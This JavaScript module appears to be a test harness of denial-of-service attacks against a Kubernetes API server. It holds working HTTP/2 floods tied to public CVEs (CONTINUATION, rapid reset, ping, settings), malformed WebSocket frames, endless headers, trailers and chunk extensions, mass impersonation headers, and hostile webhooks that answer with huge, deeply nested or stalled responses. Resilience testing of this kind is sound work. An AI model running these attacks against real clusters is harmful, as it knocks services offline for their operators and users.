// Attacks on what stands around the objects: frames of HTTP/2 and WebSocket as no client sends them, headers without end,
// webhooks that answer what no webhook would, reviews, tokens, certificates and impersonation in thousands.
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import https from 'node:https';
import { connect } from 'node:net';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import tls from 'node:tls';
import { frame, websocketFrame } from './frames.mjs';

const MAPS = '/api/v1/namespaces/default/configmaps';
const HOOKS = '/apis/admissionregistration.k8s.io/v1';
const MEGABYTE = 2 ** 20;

const times = (count, item) => Array.from({ length: count }, (_, i) => item(i));

/** A certificate for a webhook, as PEM; made by openssl. */
function makeCertificate(folder, host) {
  const [key, cert] = [join(folder, 'hook.key'), join(folder, 'hook.crt')];
  const san = `subjectAltName=IP:${host}`;
  const named = ['-subj', '/CN=hook', '-addext', san, '-days', '2'];
  const how = ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', key, '-out', cert];
  execFileSync('openssl', [...how, ...named], { stdio: 'ignore' });
  return { key: readFileSync(key), cert: readFileSync(cert) };
}

/** What a webhook answers, by its path. */
const ANSWERS = {
  huge: async (response) => {
    const piece = Buffer.alloc(MEGABYTE, ' ');
    for (let i = 0; i < 256 && !response.destroyed; i++) if (!(await taken(response, piece))) break;
    response.end();
  },
  deep: (response) => response.end(`${'{"a":'.repeat(200_000)}1${'}'.repeat(200_000)}`),
  wide: (response) =>
    response.end(`{"kind":"AdmissionReview","x":[${times(600_000, () => '1').join()}]}`),
  patch: (response, uid) => {
    const patch = times(50_000, (i) => ({ op: 'add', path: `/data/p${i}`, value: 'v' }));
    const text = Buffer.from(JSON.stringify(patch)).toString('base64');
    const answer = { uid, allowed: true, patchType: 'JSONPatch', patch: text };
    response.end(
      JSON.stringify({
        apiVersion: 'admission.k8s.io/v1',
        kind: 'AdmissionReview',
        response: answer,
      }),
    );
  },
  slow: async (response) => {
    for (let i = 0; i < 40 && !response.destroyed; i++) {
      response.write(' ');
      await sleep(50);
    }
    response.end();
  },
  headers: (response) => {
    const { socket } = response;
    socket.write('HTTP/1.1 200 OK\r\n');
    const line = `x: ${'a'.repeat(60_000)}\r\n`;
    for (let i = 0; i < 200; i++) socket.write(line);
  },
};

/** Writes; false when the other side does not read on for a while. */
export function taken(stream, bytes) {
  if (stream.write(bytes)) return true;
  return new Promise((resolve) => {
    const done = (isTaken) => {
      stream.off('drain', drained).off('close', drained);
      clearTimeout(timer);
      resolve(isTaken);
    };
    const drained = () => done(true);
    const timer = setTimeout(done, 1000, false);
    stream.once('drain', drained).once('close', drained);
  });
}

/** A webhook for each answer, for ConfigMaps that carry its name as a label. */
export async function prepareWire(ask, { folder, hookHost }) {
  const { key, cert } = makeCertificate(folder, hookHost);
  const server = https.createServer({ key, cert }, (request, response) => {
    const chunks = [];
    request.on('data', (chunk) => chunks.push(chunk));
    request.on('end', () => {
      response.on('error', () => undefined);
      const { uid } = JSON.parse(Buffer.concat(chunks).toString()).request;
      void ANSWERS[request.url.slice(1).split('?')[0]](response, uid);
    });
  });
  await new Promise((resolve) => server.listen(9443, hookHost, resolve));
  for (const name of Object.keys(ANSWERS)) {
    const webhook = {
      name: `${name}.attack.test`,
      sideEffects: 'None',
      admissionReviewVersions: ['v1'],
      timeoutSeconds: 2,
      clientConfig: {
        url: `https://${hookHost}:9443/${name}`,
        caBundle: cert.toString('base64'),
      },
      objectSelector: { matchLabels: { hook: name } },
      rules: [
        { apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['configmaps'] },
      ],
    };
    await ask('POST', `${HOOKS}/mutatingwebhookconfigurations`, {
      body: JSON.stringify({ metadata: { name }, webhooks: [webhook] }),
    });
  }
  await ask('POST', '/api/v1/namespaces', { body: '{"metadata":{"name":"audited"}}' });
  await ask('POST', '/api/v1/namespaces/default/serviceaccounts', {
    body: '{"metadata":{"name":"robot"}}',
  });
}

/** What only the audited namespace is written down of, whole. */
export const AUDIT_POLICY = `apiVersion: audit.k8s.io/v1
kind: Policy
rules:
- level: RequestResponse
  namespaces: ["audited"]
- level: None
`;

const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';

const [DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW, CONTINUATION] = [
  0, 1, 2, 3, 4, 6, 8, 9,
];

/** `:method: GET`, `:scheme: https`, `:path: /`, `:authority: x` for HPACK. */
const REQUEST = Buffer.from([0x82, 0x87, 0x84, 0x01, 0x01, 0x78]);
const POST = Buffer.from([0x83, 0x87, 0x84, 0x01, 0x01, 0x78]);

/** Sends frames on a connection of HTTP/2 until it is ended, at most so often; what comes back is thrown away. */
function flood({ host, first = [], bytes, writes }) {
  return new Promise((resolve) => {
    const options = { host, port: 6443, rejectUnauthorized: false, ALPNProtocols: ['h2'] };
    let sent = 0;
    const socket = tls.connect(options, async () => {
      socket.write(Buffer.concat([Buffer.from(PREFACE), frame(SETTINGS, 0, 0), ...first]));
      await sleep(50);
      for (; sent < writes && !socket.destroyed; sent++) if (!(await taken(socket, bytes))) break;
      await sleep(300);
      socket.destroy();
    });
    socket.resume();
    socket.on('error', () => undefined);
    socket.on('close', () => resolve({ status: 0, message: `${sent} of ${writes} writes taken` }));
  });
}

/** Opens a watch over WebSocket and sends it frames. */
function overWebSocket({ host, token, bytes, writes }) {
  return new Promise((resolve) => {
    let [sent, status] = [0, 0];
    const socket = tls.connect({ host, port: 6443, rejectUnauthorized: false }, () => {
      socket.write(
        `GET ${MAPS}?watch=true HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${randomBytes(16).toString('base64')}\r\n\r\n`,
      );
    });
    socket.once('data', async (chunk) => {
      status = Number(chunk.toString('latin1').slice(9, 12));
      for (; sent < writes && !socket.destroyed; sent++) if (!(await taken(socket, bytes))) break;
      await sleep(300);
      socket.destroy();
    });
    socket.resume();
    socket.on('error', () => undefined);
    socket.on('close', () => resolve({ status, message: `${sent} of ${writes} writes taken` }));
  });
}

/** Sends bytes over HTTP/1.1, again and again, until the server has had enough. */
function endless({ host, head, bytes, writes }) {
  return new Promise((resolve) => {
    let [sent, answer] = [0, ''];
    const socket = tls.connect({ host, port: 6443, rejectUnauthorized: false }, async () => {
      socket.write(head);
      for (; sent < writes && !socket.destroyed; sent++) if (!(await taken(socket, bytes))) break;
      await sleep(500);
      socket.destroy();
    });
    socket.on('data', (chunk) => (answer ||= chunk.toString('latin1')));
    socket.on('error', () => undefined);
    socket.on('close', () =>
      resolve({
        status: Number(answer.slice(9, 12)),
        message: `${sent} of ${writes} writes taken`,
      }),
    );
  });
}

/** Connections that say nothing at all; how many the server has ended after upstream's time for a handshake, 32 s. */
async function silent({ host, count }) {
  const sockets = times(count, () => connect({ host, port: 6443 }));
  let ended = 0;
  for (const socket of sockets)
    socket
      .resume()
      .on('error', () => undefined)
      .on('close', () => (ended += 1));
  await sleep(36_000);
  for (const socket of sockets) socket.destroy();
  return { status: 0, message: `${ended} of ${count} ended by the server` };
}

/** A request for a certificate with so many names, as the API takes it. */
function requestOfNames(folder, count) {
  const config = join(folder, 'names.cnf');
  const names = times(count, (i) => `DNS.${i} = host-${i}.${'x'.repeat(40)}.attack.test`).join(
    '\n',
  );
  writeFileSync(
    config,
    `[req]\ndistinguished_name=dn\nreq_extensions=ext\nprompt=no\n[dn]\nCN=${'n'.repeat(60)}\n[ext]\nsubjectAltName=@names\n[names]\n${names}\n`,
  );
  const how = ['req', '-new', '-newkey', 'rsa:2048', '-nodes', '-keyout', '/dev/null'];
  const pem = execFileSync('openssl', [...how, '-config', config], {
    stdio: ['ignore', 'pipe', 'ignore'],
    maxBuffer: 64 * MEGABYTE,
  });
  return pem.toString('base64');
}

/** The attacks by name. */
export function wireAttacks(ask, { host, token, folder }) {
  const post = (path, object, options) => () =>
    ask('POST', path, { body: JSON.stringify(object), ...options });
  const hooked = (name) =>
    post(MAPS, { metadata: { generateName: 'hooked-', labels: { hook: name } }, data: { a: 'b' } });
  const review = (spec) => post('/apis/authorization.k8s.io/v1/subjectaccessreviews', { spec });
  const request = { namespace: 'default', verb: 'get', resource: 'pods' };
  const repeat = (count, made) => Buffer.concat(times(count, made));
  const opened = [frame(HEADERS, 4, 1, POST)];
  return {
    'a webhook that answers 256 MiB': hooked('huge'),
    'a webhook answer nested 200,000 deep': hooked('deep'),
    'a webhook answer of 600,000 values': hooked('wide'),
    'a webhook patch of 50,000 operations': hooked('patch'),
    'a webhook that answers byte by byte': hooked('slow'),
    'a webhook whose headers do not end': hooked('headers'),
    'an audited object of 45,000 fields': post('/api/v1/namespaces/audited/configmaps', {
      metadata: { generateName: 'wide-' },
      data: Object.fromEntries(times(45_000, (i) => [`k${i}`, 'v'])),
    }),
    'a CONTINUATION flood (CVE-2024-27316)': () =>
      flood({
        host,
        first: [frame(HEADERS, 0, 1, REQUEST)],
        bytes: repeat(64, () => frame(CONTINUATION, 0, 1, Buffer.alloc(200, 0x86))),
        writes: 5000,
      }),
    'a CONTINUATION flood of nothing': () =>
      flood({
        host,
        first: [frame(HEADERS, 0, 1, REQUEST)],
        bytes: repeat(5000, () => frame(CONTINUATION, 0, 1)),
        writes: 200,
      }),
    'a flood of settings (CVE-2019-9515)': () =>
      flood({ host, bytes: repeat(5000, () => frame(SETTINGS, 0, 0)), writes: 200 }),
    'a flood of pings (CVE-2019-9512)': () =>
      flood({ host, bytes: repeat(3000, () => frame(PING, 0, 0, Buffer.alloc(8))), writes: 200 }),
    'a flood of priorities (CVE-2019-9513)': () =>
      flood({
        host,
        bytes: repeat(3000, (i) => frame(PRIORITY, 0, 2 * i + 1, Buffer.alloc(5, 1))),
        writes: 200,
      }),
    'a flood of empty data (CVE-2019-9518)': () =>
      flood({ host, first: opened, bytes: repeat(5000, () => frame(DATA, 0, 1)), writes: 200 }),
    'a flood of windows': () =>
      flood({
        host,
        bytes: repeat(3000, () => frame(WINDOW, 0, 0, Buffer.from([0, 0, 0, 1]))),
        writes: 200,
      }),
    'a flood of resets (CVE-2023-44487)': () =>
      flood({
        host,
        bytes: Buffer.concat(
          times(1000, (i) =>
            Buffer.concat([
              frame(HEADERS, 5, 2 * i + 1, REQUEST),
              frame(RST, 0, 2 * i + 1, Buffer.from([0, 0, 0, 8])),
            ]),
          ),
        ),
        writes: 1,
      }),
    'a watch over WebSocket that is sent a million tiny frames': () =>
      overWebSocket({
        host,
        token,
        bytes: repeat(5000, () => websocketFrame(2, Buffer.from('x'))),
        writes: 200,
      }),
    'a watch over WebSocket that is sent a million pings': () =>
      overWebSocket({
        host,
        token,
        bytes: repeat(5000, () => websocketFrame(9, Buffer.from('x'))),
        writes: 200,
      }),
    'a watch over WebSocket that is sent a frame of 4 GiB': () =>
      overWebSocket({
        host,
        token,
        bytes: Buffer.concat([
          websocketFrame(2, Buffer.alloc(0), { length: 2 ** 32 }),
          Buffer.alloc(MEGABYTE),
        ]),
        writes: 100,
      }),
    'a watch over WebSocket that is sent an unknown sort of frame': () =>
      overWebSocket({ host, token, bytes: websocketFrame(5, Buffer.from('x')), writes: 100 }),
    '200 connections that never begin their handshake': () => silent({ host, count: 200 }),
    'headers without end': () =>
      endless({
        host,
        head: `GET ${MAPS} HTTP/1.1\r\nHost: x\r\n`,
        bytes: 'x: y\r\n'.repeat(10_000),
        writes: 100,
      }),
    'trailers without end': () =>
      endless({
        host,
        head: `POST ${MAPS} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n`,
        bytes: 'x: y\r\n'.repeat(10_000),
        writes: 100,
      }),
    'an extension of a chunk without end (CVE-2023-39326)': () =>
      endless({
        host,
        head: `POST ${MAPS} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n1;`,
        bytes: 'x'.repeat(60_000),
        writes: 100,
      }),
    'an impersonation of 10,000 groups': () =>
      endless({
        host,
        head: `GET ${MAPS}/target HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\nImpersonate-User: u\r\n${times(10_000, (i) => `Impersonate-Group: group-${i}\r\n`).join('')}\r\n`,
        bytes: '',
        writes: 0,
      }),
    'an impersonation of 10,000 extras': () =>
      endless({
        host,
        head: `GET ${MAPS}/target HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\nImpersonate-User: u\r\n${times(10_000, (i) => `Impersonate-Extra-e${i}: v\r\n`).join('')}\r\n`,
        bytes: '',
        writes: 0,
      }),
    'a review of 45,000 groups': review({
      user: 'u',
      groups: times(45_000, (i) => `group-${i}`),
      resourceAttributes: request,
    }),
    'a review of 20,000 extras': review({
      user: 'u',
      extra: Object.fromEntries(times(20_000, (i) => [`e${i}`, ['v']])),
      resourceAttributes: request,
    }),
    'a review of 10,000 requirements': review({
      user: 'u',
      resourceAttributes: {
        ...request,
        labelSelector: {
          requirements: times(10_000, (i) => ({ key: `k${i}`, operator: 'In', values: ['v'] })),
        },
      },
    }),
    'a token for 40,000 audiences': post('/api/v1/namespaces/default/serviceaccounts/robot/token', {
      apiVersion: 'authentication.k8s.io/v1',
      kind: 'TokenRequest',
      spec: { audiences: times(40_000, (i) => `audience-${i}`) },
    }),
    'a review of a token for 40,000 audiences': post(
      '/apis/authentication.k8s.io/v1/tokenreviews',
      { spec: { token: 'a.b.c', audiences: times(40_000, (i) => `audience-${i}`) } },
    ),
    'a certificate of 8,000 names': post(
      '/apis/certificates.k8s.io/v1/certificatesigningrequests',
      {
        metadata: { generateName: 'names-' },
        spec: {
          request: requestOfNames(folder, 8000),
          signerName: 'kubernetes.io/kube-apiserver-client',
          usages: ['client auth'],
        },
      },
    ),
    'discovery of 100 definitions, whole': () =>
      ask('GET', '/apis', {
        accept: 'application/json;g=apidiscovery.k8s.io;v=v2;as=APIGroupDiscoveryList',
      }),
    'a list of a limit beyond numbers': () => ask('GET', `${MAPS}?limit=9223372036854775807`),
    'a list of a limit below nothing': () => ask('GET', `${MAPS}?limit=-9223372036854775808`),
    'a watch of a version of long ago': () =>
      ask('GET', `${MAPS}?watch=true&resourceVersion=1&timeoutSeconds=1`),
    '500 lists in pages of one': async () => {
      let answer = { status: 0, message: '' };
      for (let i = 0; i < 10; i++)
        [answer] = await Promise.all(times(50, () => ask('GET', `${MAPS}?limit=1`)));
      return answer;
    },
  };
}
